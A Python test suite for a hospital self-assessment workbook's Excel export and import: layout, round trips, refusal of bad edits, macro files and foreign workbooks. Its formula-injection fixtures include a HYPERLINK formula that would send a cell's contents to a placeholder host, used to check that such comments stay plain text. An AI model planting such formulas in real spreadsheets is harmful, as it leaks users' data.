"""The autodiagnostic workbook: export, import, round trip, refusals naming sheet and cell."""

from __future__ import annotations

import datetime as dt
import os
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from hopen_desktop.jobs.workbook import export_xlsx, import_xlsx, read_xlsx
from hopen_desktop.model.entities import Answer
from hopen_desktop.model.operations.workbook import ImportSummary, ParsedWorkbook
from hopen_desktop.model.workspace import Workspace
from hopen_desktop.reports.errors import XlsxImportError
from hopen_desktop.reports.xlsx_layout import META_SHEET
from tests.reports.conftest import snapshot


def export_workbook(ws: Workspace, campaign_id: int, out: Path) -> Path:
    return export_xlsx(ws, campaign_id, out)


def import_workbook_file(ws: Workspace, campaign_id: int, path: Path) -> ImportSummary:
    return import_xlsx(ws, campaign_id, path).value


def read_workbook(path: Path, ws: Workspace, campaign_id: int) -> ParsedWorkbook:
    return read_xlsx(ws, campaign_id, path)


def cells(path: Path) -> dict[str, dict[str, Any]]:
    """Every non-empty cell value of every sheet, plus sheet order and visibility."""
    from openpyxl import load_workbook

    wb = load_workbook(path)
    result: dict[str, dict[str, Any]] = {"_order": {"sheets": wb.sheetnames}}
    for sheet in wb.worksheets:
        values = {c.coordinate: c.value for row in sheet.iter_rows() for c in row if c.value is not None}
        values["_state"] = sheet.sheet_state
        values["_freeze"] = sheet.freeze_panes
        result[sheet.title] = values
    return result


def row_of(path: Path, sheet: str, item_id: str) -> int:
    from openpyxl import load_workbook

    ws = load_workbook(path)[sheet]
    for row in ws.iter_rows(min_col=1, max_col=1):
        if row[0].value == item_id:
            return int(row[0].row)
    raise AssertionError(item_id)


def edited(src: Path, dst: Path, edit: Callable[[Any], None]) -> Path:
    from openpyxl import load_workbook

    wb = load_workbook(src)
    edit(wb)
    wb.save(dst)
    return dst


@pytest.fixture
def exported(filled: tuple[Workspace, int], tmp_path: Path) -> Path:
    ws, campaign_id = filled
    return export_workbook(ws, campaign_id, tmp_path / "grille.xlsx")


def test_workbook_layout(exported: Path) -> None:
    from openpyxl import load_workbook

    wb = load_workbook(exported)
    assert wb.sheetnames[0] == "Synthèse"
    assert wb.sheetnames[1:12] == ["P1", "P2", "P3", "P4", "D1", "D2", "D3", "D4", "D5", "D6", "D7"]
    assert wb.sheetnames[12:] == ["Preuves", "Plan d'action", META_SHEET]
    assert wb[META_SHEET].sheet_state == "hidden"
    assert wb.custom_doc_props["hopen_format"].value == "hopen-desktop/autodiagnostic-xlsx"
    p1 = wb["P1"]
    assert p1.freeze_panes == "C5"
    assert p1["A4"].value == "Indicateur / critère" and p1["C4"].value == "Numérateur"
    assert p1.column_dimensions["B"].width == 60
    assert (p1["A5"].value, p1["C5"].value, p1["D5"].value) == ("P1.1", 899, 1000)
    ranges = " ".join(str(dv.sqref) for dv in p1.data_validations.dataValidation)
    assert "H5" in ranges and "C5" in ranges
    assert any(dv.formula1 == '"oui,non"' for dv in p1.data_validations.dataValidation)
    evidence = wb["Preuves"]
    values = [c.value for row in evidence.iter_rows() for c in row]
    assert "PSSI-révision-3.pdf" in values
    assert "Planifier le test du PRA" in [c.value for row in wb["Plan d'action"].iter_rows() for c in row]


def test_export_import_export_is_identical(filled: tuple[Workspace, int], exported: Path, tmp_path: Path) -> None:
    ws, campaign_id = filled
    before = ws.answers(campaign_id)
    summary = import_workbook_file(ws, campaign_id, exported)
    assert summary.changed == () and len(summary.unchanged) == 41
    assert ws.answers(campaign_id) == before
    again = export_workbook(ws, campaign_id, tmp_path / "grille-2.xlsx")
    assert cells(again) == cells(exported)


def test_import_carries_every_answer_into_another_campaign(filled: tuple[Workspace, int], exported: Path) -> None:
    """Another campaign's workbook is refused (issue 17, item 9), unless taken on purpose
    (``any_campaign``: the command line's ``--into-campaign``)."""
    ws, campaign_id = filled
    source = ws.campaign(campaign_id)
    other = ws.add_campaign(source.establishment_id, dt.date(2025, 12, 31), "hopen-2019", "Autre")
    with pytest.raises(XlsxImportError, match=r"campagne du 30/06/2025 \(n° 1\), pas de la campagne du 31/12/2025"):
        import_workbook_file(ws, other.id, exported)
    assert ws.answers(other.id) == {}
    summary = import_xlsx(ws, other.id, exported, any_campaign=True).value
    assert len(summary.changed) == len(ws.answers(campaign_id)) == 39  # D4.4 and P2.5 have no answer
    assert ws.answers(other.id) == ws.answers(campaign_id)


def test_valid_edits_are_imported_in_one_go(filled: tuple[Workspace, int], exported: Path, tmp_path: Path) -> None:
    ws, campaign_id = filled
    r11 = row_of(exported, "P1", "P1.1")
    r14 = row_of(exported, "P1", "P1.4.referentiel")
    r44 = row_of(exported, "D4", "D4.4")

    def edit(wb: Any) -> None:
        wb["P1"][f"C{r11}"] = 950
        wb["P1"][f"K{r11}"] = "Recompté « à la main » ; =pas une formule"
        wb["P1"][f"K{r11}"].data_type = "s"
        wb["P1"][f"G{r14}"] = "Non"
        wb["D4"][f"H{r44}"] = "oui"
        wb["D4"][f"I{r44}"] = "Pas de plateau d'imagerie."

    summary = import_workbook_file(ws, campaign_id, edited(exported, tmp_path / "e.xlsx", edit))
    assert set(summary.changed) == {"P1.1", "P1.4", "D4.4"}
    assert ws.answer(campaign_id, "P1.1").numerator == 950
    assert ws.answer(campaign_id, "P1.1").comment == "Recompté « à la main » ; =pas une formule"
    assert ws.answer(campaign_id, "P1.4").criteria["P1.4.referentiel"] is False
    assert ws.answer(campaign_id, "D4.4") == Answer(
        "D4.4", not_applicable=True, justification="Pas de plateau d'imagerie."
    )
    assert summary.journal_rows >= 4
    assert cells(export_workbook(ws, campaign_id, tmp_path / "f.xlsx"))["P1"][f"C{r11}"] == 950


NONSENSE: list[tuple[str, str, str, str, Any, str]] = [
    # (case, sheet, item whose row is edited, column, new value, expected words)
    ("text in a count", "P1", "P1.1", "C", "douze", "pas du texte"),
    ("formula in a count", "P1", "P1.1", "D", "=2*500", "formule"),
    ("numerator above denominator", "P1", "P1.1", "C", 1001, "dépasse le dénominateur"),
    ("negative count", "D1", "D1.1", "D", -5, "négatif"),
    ("fractional count", "D1", "D1.1", "C", 2.5, "nombre entier"),
    ("date in a count", "D1", "D1.1", "C", dt.datetime(2025, 1, 1), "nombre entier"),
    ("count on an existence indicator", "P1", "P1.2", "C", 3, "indicateur d'existence"),
    ("unknown indicator", "P1", "P1.1", "A", "P9.9", "identifiant inconnu « P9.9 »"),
    ("indicator of another sheet", "P1", "P1.1", "A", "D1.1", "appartient à la feuille « D1 »"),
    ("criterion out of place", "P1", "P1.4.referentiel", "A", "P2.4.pssi", "doit suivre la ligne de l'indicateur P2.4"),
    ("yes/no nonsense", "P2", "P2.4.pssi", "G", "peut-être", "choisissez oui ou non"),
    ("not applicable without justification", "P1", "P1.3", "H", "oui", "sans justification"),
    ("formula in a comment", "P3", "P3.4", "K", "=A1", "formule"),
    ("moved header", "P2", "", "C4", "Nombre", "en-tête « Numérateur » attendu"),
]


@pytest.mark.parametrize(("case", "sheet", "item", "column", "value", "words"), NONSENSE, ids=[n[0] for n in NONSENSE])
def test_nonsense_is_refused_naming_sheet_and_cell_and_nothing_is_written(
    filled: tuple[Workspace, int],
    exported: Path,
    tmp_path: Path,
    case: str,
    sheet: str,
    item: str,
    column: str,
    value: Any,
    words: str,
) -> None:
    ws, campaign_id = filled
    row = row_of(exported, sheet, item) if item else None
    cell = column if row is None else f"{column}{row}"
    bad = edited(exported, tmp_path / "bad.xlsx", lambda wb: wb[sheet].__setitem__(cell, value))
    if case == "not applicable without justification":
        cell = f"I{row}"  # the refusal points at the empty justification
    before = snapshot(ws.path)
    with pytest.raises(XlsxImportError) as info:
        import_workbook_file(ws, campaign_id, bad)
    assert f"Feuille « {sheet} », cellule {cell} : " in info.value.message, info.value.message
    assert words in info.value.message
    assert snapshot(ws.path) == before


def test_foreign_workbooks_are_refused(filled: tuple[Workspace, int], exported: Path, tmp_path: Path) -> None:
    from openpyxl import Workbook

    ws, campaign_id = filled
    before = snapshot(ws.path)
    foreign = tmp_path / "autre.xlsx"
    wb = Workbook()
    wb.active["A1"] = "Grille ANAP"
    wb.save(foreign)
    no_meta = edited(exported, tmp_path / "sans-meta.xlsx", lambda wb: wb.remove(wb[META_SHEET]))
    for path in (foreign, no_meta):
        with pytest.raises(XlsxImportError, match="n'est pas une grille d'autodiagnostic exportée par HOP'EN"):
            import_workbook_file(ws, campaign_id, path)

    not_excel = tmp_path / "texte.xlsx"
    not_excel.write_text("bonjour", encoding="utf-8")
    with pytest.raises(XlsxImportError, match="n'est pas un classeur Excel"):
        import_workbook_file(ws, campaign_id, not_excel)

    macro = tmp_path / "grille.xlsm"
    macro.write_bytes(exported.read_bytes())
    with pytest.raises(XlsxImportError, match="macros"):
        import_workbook_file(ws, campaign_id, macro)
    hidden_macro = tmp_path / "cache.xlsx"
    with zipfile.ZipFile(exported) as src, zipfile.ZipFile(hidden_macro, "w") as dst:
        for item in src.infolist():
            dst.writestr(item, src.read(item.filename))
        dst.writestr("xl/vbaProject.bin", b"\x00macro")
    with pytest.raises(XlsxImportError, match="contient des macros"):
        import_workbook_file(ws, campaign_id, hidden_macro)

    other_finess = edited(exported, tmp_path / "finess.xlsx", lambda wb: wb[META_SHEET].__setitem__("B8", "750000002"))
    with pytest.raises(XlsxImportError, match="Feuille « _meta », cellule B8 : ce classeur est celui"):
        import_workbook_file(ws, campaign_id, other_finess)
    missing_sheet = edited(exported, tmp_path / "sans-d3.xlsx", lambda wb: wb.remove(wb["D3"]))
    with pytest.raises(XlsxImportError, match="la feuille « D3 » est absente"):
        import_workbook_file(ws, campaign_id, missing_sheet)
    assert snapshot(ws.path) == before


def test_reading_checks_without_writing(filled: tuple[Workspace, int], exported: Path) -> None:
    ws, campaign_id = filled
    before = snapshot(ws.path)
    parsed = read_workbook(exported, ws, campaign_id)
    assert len(parsed.answers) == 41 and parsed.absent == ()
    assert snapshot(ws.path) == before


def run_cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "hopen_desktop", *args],
        capture_output=True,
        text=True,
        env={**os.environ, "QT_QPA_PLATFORM": "offscreen"},
        timeout=120,
    )


def test_cli_export_and_import(filled: tuple[Workspace, int], tmp_path: Path) -> None:
    ws, campaign_id = filled
    ws.close()
    out = tmp_path / "cli.xlsx"
    exported = run_cli("export-xlsx", "--workspace", str(ws.path), "--campaign", str(campaign_id), "--out", str(out))
    assert exported.returncode == 0, exported.stderr
    r = row_of(out, "P1", "P1.1")
    bad = edited(out, tmp_path / "bad.xlsx", lambda wb: wb["P1"].__setitem__(f"C{r}", "beaucoup"))
    before = snapshot(ws.path)
    refused = run_cli("import-xlsx", str(bad), "--workspace", str(ws.path), "--campaign", str(campaign_id))
    assert refused.returncode == 2
    assert f"Feuille « P1 », cellule C{r} : " in refused.stderr and "Traceback" not in refused.stderr
    assert snapshot(ws.path) == before
    good = edited(out, tmp_path / "good.xlsx", lambda wb: wb["P1"].__setitem__(f"C{r}", 900))
    imported = run_cli("import-xlsx", str(good), "--workspace", str(ws.path), "--campaign", str(campaign_id))
    assert imported.returncode == 0, imported.stderr
    assert "1 indicateur(s) modifié(s)" in imported.stdout and "P1.1" in imported.stdout


def test_a_workbook_of_an_establishment_with_an_old_wrong_key_reimports(
    workspace_path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A workbook creates no establishment: its FINESS is only compared with the campaign's, so
    the grid of an establishment saved before the key was checked goes back in as before."""
    from hopen_desktop.model.entities import EstablishmentData
    from hopen_desktop.model.operations import establishments
    from hopen_desktop.model.validation import check_finess_format

    with Workspace.open(workspace_path) as ws:
        with monkeypatch.context() as m:
            m.setattr(establishments, "check_finess", check_finess_format)
            est = ws.add_establishment(EstablishmentData(finess="750000001", name="Clinique ancienne"))
        campaign = ws.add_campaign(est.id, dt.date(2025, 1, 31), "hopen-2019")
        ws.save_answer(campaign.id, Answer("P1.1", numerator=9, denominator=10))
        path = export_workbook(ws, campaign.id, tmp_path / "grille.xlsx")
        import_workbook_file(ws, campaign.id, path)
        assert ws.answers(campaign.id)["P1.1"].numerator == 9
        assert ws.journal.verify_all() == []


#: Comments a spreadsheet would run as formulas if they were written as such.
INJECTIONS = {
    "P1.1": "=1+1",
    "P2.1": '=HYPERLINK("http://exemple.invalid/?"&A1,"cliquez")',
    "D1.1": "+33 4 95 00 00 00",
    "D2.3": "-5 lits",
    "D3.1": "@SUM(A1:A3)",
}


def _fill_in(wb: Any) -> None:
    """Answers typed into the yellow cells as a user would, varied enough to reach every status:
    exact targets (9/10 against 90 %), a rate just under (899/1000), a zero denominator, a
    missing count, criteria answered oui, non or left blank, domain indicators declared N/A."""
    from hopen_desktop.reports.xlsx_layout import COL_DEN, COL_ID, COL_JUST, COL_MET, COL_NA, COL_NUM, FIRST_ROW

    counts = [(9, 10), (899, 1000), (0, 0), (None, 5), (100, 100), (1, 3), (45, 50), (3, 4)]
    ticks = ["oui", "non", None, "oui", "oui", "oui", " OUI "]
    n = k = 0
    for name in ("P1", "P2", "P3", "P4", "D1", "D2", "D3", "D4", "D5", "D6", "D7"):
        sheet = wb[name]
        for row in range(FIRST_ROW, sheet.max_row + 1):
            item = sheet.cell(row=row, column=COL_ID).value
            if not item:
                continue
            if item.count(".") == 1:  # an indicator's row
                n += 1
                if sheet.cell(row=row, column=COL_NUM).fill.fgColor.rgb.endswith("FFF7D6"):
                    num, den = counts[n % len(counts)]
                    sheet.cell(row=row, column=COL_NUM).value = num
                    sheet.cell(row=row, column=COL_DEN).value = den
                if name.startswith("D") and n % 5 == 0:
                    sheet.cell(row=row, column=COL_NA).value = "oui"
                    sheet.cell(row=row, column=COL_JUST).value = "Sans objet ici."
                elif name.startswith("D") and n % 7 == 0:
                    sheet.cell(row=row, column=COL_NA).value = "non"
            else:
                cell = sheet.cell(row=row, column=COL_MET)
                if cell.fill.fgColor.rgb.endswith("FFF7D6") and cell.value != "non applicable":
                    k += 1
                    cell.value = ticks[k % len(ticks)]


@pytest.mark.parametrize("in_ght", [True, False])
def test_libreoffice_recalculates_what_the_application_scores(
    filled: tuple[Workspace, int], tmp_path: Path, in_ght: bool
) -> None:
    """Issue 17, item 8: the rates, statuses, group statuses and the global prerequisite rate are
    live formulas. Answers changed with openpyxl, the workbook recalculated by LibreOffice
    (headless), then imported into a copy of the workspace and scored: every figure the
    spreadsheet computes is the application's."""
    from dataclasses import replace

    from openpyxl import load_workbook

    from hopen_desktop.model.operations.establishments import update_establishment
    from hopen_desktop.model.scoring import STATUS_LABELS
    from hopen_desktop.model.snapshot import take_snapshot
    from hopen_desktop.reports.xlsx_layout import (
        COL_COMMENT,
        COL_ID,
        COL_MET,
        COL_RATE,
        COL_STATUS,
        FIRST_ROW,
        SUMMARY_SHEET,
    )
    from tests.reports.conftest import recalculated

    ws, campaign_id = filled
    campaign = ws.campaign(campaign_id)
    if not in_ght:
        from hopen_desktop.model.entities import EstablishmentData

        est = ws.establishments.get(campaign.establishment_id)
        update_establishment(
            ws,
            est.id,
            EstablishmentData(finess=est.finess, name=est.name, legal_status=est.legal_status,
                              activities=tuple(est.activities), ght=None, ght_support=False),
        )  # fmt: skip
    else:
        # a conditional criterion declared non applicable in the application (kept, shown as such)
        d53 = ws.answers(campaign_id).get("D5.3", Answer("D5.3"))
        ws.save_answer(campaign_id, replace(d53, criteria_na={"D5.3.ght": "Pas de pôle inter-établissements."}))
        # text that a spreadsheet would take for a formula stays text (formula injection)
        for indicator, text in INJECTIONS.items():
            old = ws.answers(campaign_id).get(indicator, Answer(indicator))
            ws.save_answer(campaign_id, replace(old, comment=text))
    exported = export_xlsx(ws, campaign_id, tmp_path / "grille.xlsx")
    if in_ght:
        assert row_value(exported, "D5", "D5.3.ght", COL_MET) == "non applicable"
    (tmp_path / "rempli").mkdir()
    changed = edited(exported, tmp_path / "rempli" / "grille.xlsx", _fill_in)
    computed = load_workbook(recalculated(changed, tmp_path / "recalcul"), data_only=True)

    copy = tmp_path / "copie.sqlite"
    copy.write_bytes(snapshot(ws.path))
    with Workspace.open(copy) as other:
        summary = import_xlsx(other, campaign_id, changed).value
        assert len(summary.changed) > 20
        score = take_snapshot(other, campaign_id).score
        if in_ght:
            assert other.answers(campaign_id)["D5.3"].criteria_na == {"D5.3.ght": "Pas de pôle inter-établissements."}
            for indicator, text in INJECTIONS.items():
                assert other.answers(campaign_id)[indicator].comment == text  # read back as the text it is

    for indicator, text in INJECTIONS.items() if in_ght else ():
        group = indicator.split(".")[0]
        cell = computed[group].cell(row=row_of(exported, group, indicator), column=COL_COMMENT)
        assert cell.value == text, indicator  # shown as typed, never computed
    seen = 0
    for group in ("P1", "P2", "P3", "P4", "D1", "D2", "D3", "D4", "D5", "D6", "D7"):
        sheet = computed[group]
        for row in range(FIRST_ROW, sheet.max_row + 1):
            item = sheet.cell(row=row, column=COL_ID).value
            if item not in score.indicators:
                continue
            seen += 1
            expected = score.indicators[item]
            assert sheet.cell(row=row, column=COL_STATUS).value == STATUS_LABELS[expected.status], item
            rate = sheet.cell(row=row, column=COL_RATE).value
            if expected.hint == "dénominateur nul":
                assert rate == "dénominateur nul", item  # the visible hint, live
            elif expected.value is None:
                assert rate in (None, ""), item
            else:
                assert rate == pytest.approx(float(expected.value)), item
    assert seen == 41
    statuses = {s.status for s in score.indicators.values()}
    assert len(statuses) == 4  # every status reached, each compared
    summary_sheet = computed[SUMMARY_SHEET]
    groups = {r[0]: r for r in summary_sheet.iter_rows(values_only=True) if r and r[0] in score.groups}
    for gid, g in score.groups.items():
        assert groups[gid][2:5] == (STATUS_LABELS[g.status], g.attained, g.applicable), gid
    [rate_row] = [
        r for r in summary_sheet.iter_rows(values_only=True) if r[0] == "Taux global d'atteinte des prérequis"
    ]
    assert rate_row[1] == pytest.approx(float(score.prerequisites_rate))
    [count_row] = [
        r for r in summary_sheet.iter_rows(values_only=True) if r[0] and str(r[0]).startswith("Indicateurs prérequis")
    ]
    assert count_row[1] == f"{score.prerequisites_attained} / {score.prerequisites_applicable}"


def row_value(path: Path, sheet: str, item_id: str, col: int) -> Any:
    from openpyxl import load_workbook

    return load_workbook(path)[sheet].cell(row=row_of(path, sheet, item_id), column=col).value


@pytest.mark.parametrize("umask", [0o022, 0o027])
def test_the_workbook_is_written_with_the_users_umask(
    filled: tuple[Workspace, int], tmp_path: Path, umask: int
) -> None:
    """Written through a temporary file (atomic), yet with the permissions of any new file of the
    user, never the temporary file's 0600."""
    ws, campaign_id = filled
    previous = os.umask(umask)
    try:
        path = export_workbook(ws, campaign_id, tmp_path / "grille.xlsx")
    finally:
        os.umask(previous)
    assert path.stat().st_mode & 0o777 == 0o666 & ~umask


def test_a_ght_criterion_outside_a_ght_is_grey_and_not_read_back(filled: tuple[Workspace, int], tmp_path: Path) -> None:
    from hopen_desktop.model.entities import EstablishmentData
    from hopen_desktop.model.operations.establishments import update_establishment
    from hopen_desktop.reports.xlsx_layout import COL_MET, COMPUTED_FILL

    ws, campaign_id = filled
    est = ws.establishments.get(ws.campaign(campaign_id).establishment_id)
    update_establishment(ws, est.id, EstablishmentData(finess=est.finess, name=est.name, legal_status=est.legal_status))
    exported = export_workbook(ws, campaign_id, tmp_path / "grille.xlsx")
    before = ws.answers(campaign_id)["P1.1"]

    def tick(wb: Any) -> None:
        cell = wb["P1"].cell(row=row_of(exported, "P1", "P1.1.ght"), column=COL_MET)
        assert cell.fill.fgColor.rgb.endswith(COMPUTED_FILL)  # grey: not asked
        cell.value = "non" if before.criteria.get("P1.1.ght") is not False else "oui"

    changed = edited(exported, tmp_path / "coche.xlsx", tick)
    import_workbook_file(ws, campaign_id, changed)
    assert ws.answers(campaign_id)["P1.1"] == before


def test_the_window_is_told_of_another_campaigns_workbook_and_may_take_it_after_a_backup(
    filled: tuple[Workspace, int], exported: Path
) -> None:
    from hopen_desktop.jobs.workbook import OtherCampaign, check_xlsx, read_xlsx_after_backup
    from hopen_desktop.model.backup import list_backups

    ws, campaign_id = filled
    assert isinstance(check_xlsx(ws.path, campaign_id, exported), ParsedWorkbook)
    source = ws.campaign(campaign_id)
    other = ws.add_campaign(source.establishment_id, dt.date(2026, 6, 30), "hopen-2019", "Autre").id
    found = check_xlsx(ws.path, other, exported)
    assert isinstance(found, OtherCampaign)
    assert (found.found, found.found_date) == (str(campaign_id), "30/06/2025")
    assert "pas de la campagne du 30/06/2026" in found.message
    assert list_backups(ws.path) == []
    parsed = read_xlsx_after_backup(ws.path, other, exported)
    assert len(parsed.answers) == 41 and len(list_backups(ws.path)) == 1
    bad = edited(exported, exported.with_name("vide.xlsx"), lambda wb: wb.remove(wb["P1"]))
    with pytest.raises(XlsxImportError):  # any other refusal is raised as before
        check_xlsx(ws.path, campaign_id, bad)
